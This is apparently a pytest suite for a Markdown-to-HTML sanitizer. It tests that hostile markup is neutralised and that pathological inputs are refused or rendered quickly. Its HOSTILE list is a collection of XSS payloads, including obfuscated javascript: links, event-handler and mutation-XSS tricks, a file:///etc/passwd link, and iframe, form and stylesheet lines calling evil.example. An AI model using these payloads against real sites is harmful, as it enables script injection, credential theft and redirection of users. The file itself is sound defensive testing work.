"""Markdown into HTML: what people write is shown, what could harm a reader is not, nothing takes long (F01, F06)."""

from __future__ import annotations

import gc
import random
import time
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from sites import Element, parse

from assay.credentials.markdowncost import MAX_MARKDOWN, markdown_fault
from assay.errors import ContentError
from assay.website.render import to_html

TAGS = {
    "p", "br", "hr", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "blockquote", "pre", "code",
    "em", "strong", "del", "sup", "sub", "a", "table", "thead", "tbody", "tr", "th", "td", "abbr",
}  # fmt: skip
ATTRIBUTES = {"a": {"href", "title", "rel"}, "abbr": {"title"}, "ol": {"start"}, "th": {"scope"}}
SCHEMES = {"", "http", "https", "mailto"}

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\t>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="https://tracker.example/pixel.gif">',
    "![x](javascript:alert(1))",
    "![tracker](https://tracker.example/pixel.gif)",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<a href=x onclick=alert(1) style='position:fixed' id=main class=state>x</a>",
    "<p id='check' class='state state-valid'>VALID</p>",
    "<a name=check>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<body onload=alert(1)>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<table><td><script>alert(1)</script></table>",
    "*<b onmouseover=alert(1)>x</b>*",
    "<abbr title='x' onmouseover='alert(1)'>x</abbr>",
    '<ol start="1" onfocus=alert(1)><li>x</ol>',
    "<a href='https://example.org/' target=_blank>x</a>",
    "<a href='https://example.org/\"onclick=\"alert(1)'>x</a>",
    "\u2028<script>alert(1)</script>\u2029",
)  # fmt: skip
PLACES = (
    "{}",
    "text {} text",
    "- {}",
    "> {}",
    "| a |\n| --- |\n| {} |",
    "## {}",
    "[{}](https://example.org/)",
    "a\n\n{}",
)


def faults(html: str) -> list[str]:
    """Return what stands in some HTML and may not."""
    return [found for element in parse(html).all()[1:] for found in _faults(element)]


def _faults(element: Element) -> list[str]:
    if element.tag not in TAGS:
        return [f"<{element.tag}>"]
    found = [f"<{element.tag} {name}>" for name in element.attributes if name not in ATTRIBUTES.get(element.tag, set())]
    # What browsers drop before they read the scheme (URL Standard, basic URL parser, steps 1 and 2).
    address = element.attributes.get("href", "").strip("".join(map(chr, range(33))))
    address = address.translate(dict.fromkeys(map(ord, "\t\n\r")))
    if urlsplit(address).scheme.lower() not in SCHEMES:
        found.append(address)
    return found


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markup_comes_out_inert(hostile: str, place: str) -> None:
    assert not faults(to_html(place.format(hostile)))


def test_the_checker_of_these_tests_sees_what_it_looks_for() -> None:
    """The happy twin: the same vectors, not cleaned, are faults."""
    assert faults("<script>1</script>")
    assert faults("<p onclick=x>")
    assert faults("<a href='java\nscript:x'>y</a>")
    assert faults("<a href='&#106;avascript:x'>y</a>")
    assert not faults("<p><a href='https://example.org/' title='t' rel='noopener'>y</a></p>")


FRAGMENTS = st.sampled_from(
    [*HOSTILE, "<", ">", "</p>", "[", "](", ")", "`", "*", "**", "\n", "\n\n", "    ", "| ", "&lt;", "&#60;", "\\", "x"]
)


@given(st.lists(FRAGMENTS, max_size=12))
@example(["`", "<script>alert(1)</script>", "\n\n", "`"])
@settings(max_examples=150, deadline=None)
def test_no_mixture_of_hostile_pieces_gets_through(pieces: list[str]) -> None:
    text = "".join(pieces)
    if not markdown_fault(text):
        assert not faults(to_html(text))


def test_what_people_write_is_shown() -> None:
    html = to_html("Do *this*, **then** `that`:\n\n1. one\n2. two\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n")
    assert "<em>this</em>" in html
    assert "<strong>then</strong>" in html
    assert "<code>that</code>" in html
    assert [item.text for item in parse(html).all() if item.tag == "li"] == ["one", "two"]
    assert [item.text for item in parse(html).all() if item.tag == "td"] == ["1", "2"]


def test_links_to_the_web_and_to_post_stay_and_tell_the_other_site_nothing() -> None:
    html = to_html("[a](https://example.org/x?y=1&z=2 'title') and <mailto:badges@example.org>")
    first = next(item for item in parse(html).all() if item.tag == "a")
    assert first.attributes["href"] == "https://example.org/x?y=1&z=2"
    assert first.attributes["rel"] == "noopener noreferrer"
    assert "mailto:" in "".join(item.attributes.get("href", "") for item in parse(html).all())


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        *(("# A", "h3"), ("## A", "h3"), ("### A", "h4"), ("#### A", "h5"), ("##### A", "h6"), ("###### A", "h6")),
        *(("A\n===", "h3"), ("A\n---", "h3"), ("<h1>A</h1>", "h3"), ("<h2>A</h2>", "h3"), ("<h1 id=x>A</h1>", "h3")),
    ],
)
def test_headings_go_below_those_of_the_page(written: str, shown: str) -> None:
    tree = parse(to_html(written))
    assert [item.tag for item in tree.all()[1:]] == [shown]
    assert tree.text.strip() == "A"


def test_text_that_looks_like_a_heading_tag_stays_text() -> None:
    assert "&lt;h1&gt;" in to_html("`<h1>A</h1>`")


def test_jinja_syntax_is_text() -> None:
    assert "{{ 7*7 }} {% raw %}" in to_html("{{ 7*7 }} {% raw %}")


# -- cost (F06) ---------------------------------------------------------------------------------------------------

SPECIAL = [*"[]()<>*_`~!#\\&\"'{}|:-+=.1", " ", "\t"]
PIECES = [
    *SPECIAL, "- ", "1. ", "> ", "](", "[a](<", "![", "![a](", "[a](b ", '[a](b "', "**", "__", "``", "<a ", "<b",
    "<!--", "<?a", "&#", "&#x41", "<div>", "</a", "[a]: ", "| ", "*a", "a*", "_a", "a_", "a`", "\\a", "[`", "***a",
    "<a@b.c>", "<http://a.b>",
]  # fmt: skip
SECONDS = 2.0
"""Most time of one processor one text may take (limit of the fault catalogue)."""


def as_long_as_allowed(block: str, between: str = "\n\n") -> str:
    """Repeat a block as often as the caps let through."""
    low, high = 1, MAX_MARKDOWN // (len(block) + len(between)) + 1
    while high - low > 1:
        middle = (low + high) // 2
        low, high = (low, middle) if markdown_fault(between.join([block] * middle)) else (middle, high)
    return between.join([block] * low)


def long_texts(piece: str) -> list[str]:
    block = as_long_as_allowed(piece, "")[:4096]
    return [as_long_as_allowed(block), as_long_as_allowed(f"{piece}a", "\n")]


def seconds(text: str) -> float:
    """Return the processor time of one text, refused or not."""
    gc.freeze()  # what thousands of tests before this one left behind is not walked on its account
    started = time.process_time()
    try:
        to_html(text)
    except ContentError as error:
        assert [problem.code for problem in error.problems] == ["PAGE02"]  # noqa: PT017 - most texts are fine
    finally:
        gc.unfreeze()
    return time.process_time() - started


@pytest.mark.parametrize("piece", PIECES, ids=repr)
def test_repetition_is_refused_or_quick(piece: str) -> None:
    for text in [piece * (MAX_MARKDOWN // len(piece)), *long_texts(piece)]:
        assert seconds(text) < SECONDS


@pytest.mark.parametrize(
    "text",
    [
        "\n".join(" " * 4 * depth + "- a" for depth in range(170)),
        "\n\n".join(" " * 4 * depth + "- a" for depth in range(170)),
        "\n\n".join("> " * min(depth, 399) + "a" for depth in range(330)),
        as_long_as_allowed("- " * 80 + "a"),
        as_long_as_allowed("> 1. " * 60 + "a"),
        "\n\n".join(f"[{number}]: /{number}" for number in range(3000)) + "[1]" * 100,
        as_long_as_allowed("|".join("a" * 1000) + "\n" + "|".join("-" * 1000)),
        as_long_as_allowed("a|b\n-|-\n" + "\n".join(["a|b"] * 900)),
        as_long_as_allowed('<a b="' + "c" * 4000),
        as_long_as_allowed("<" + "a" * 4000),
        "a" + " \n" * 32_000 + "b",
        "- a\n\n" + "    b\n\n" * 8_000,
    ],
    ids=lambda text: repr(text[:20]),
)
def test_structure_is_refused_or_quick(text: str) -> None:
    assert seconds(text) < SECONDS


def test_random_texts_of_the_largest_size_are_refused_or_quick() -> None:
    chance = random.Random(20)  # noqa: S311 - the same texts each time
    for _ in range(5):
        words = [chance.choice(PIECES) for _ in range(200)]
        assert seconds(as_long_as_allowed("".join(words)[:4000])) < SECONDS


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("a" * (MAX_MARKDOWN + 1), "The text has 65,537 characters; 65,536 are allowed."),
        ("a" * 4097, "A paragraph has 4,097 characters; 4,096 are allowed."),
        ("[" * 401, 'A paragraph has 401 times the character "["; 400 are allowed.'),
        ("[" * 400 + ("\n\n" + "[" * 400) * 10, 'The text has 4,400 times the character "["; 4,000 are allowed.'),
        ("\n\n".join(["<" * 300] * 2), 'The text has 600 times the character "<"; 400 are allowed.'),
    ],
)
def test_a_text_that_costs_too_much_is_refused_with_its_figures(text: str, says: str) -> None:
    with pytest.raises(ContentError) as refused:
        to_html(text)
    assert [(item.code, item.message) for item in refused.value.problems] == [("PAGE02", says)]


def test_lists_within_lists_without_end_are_refused_and_do_not_crash() -> None:
    with pytest.raises(ContentError) as refused:
        to_html("- " * 1000 + "a")
    assert refused.value.problems[0].code == "PAGE02"


def test_a_long_ordinary_text_is_fine() -> None:
    paragraph = 'The learner\'s task (see *Annex A*) takes "three hours"; bring <https://example.org/>.\n\n'
    text = (paragraph.replace("<https://example.org/>", "a pen") * 700)[: MAX_MARKDOWN - 200] + "\n\n" + paragraph
    assert markdown_fault(text) == ""
    assert to_html(text).count("<p>") > 600
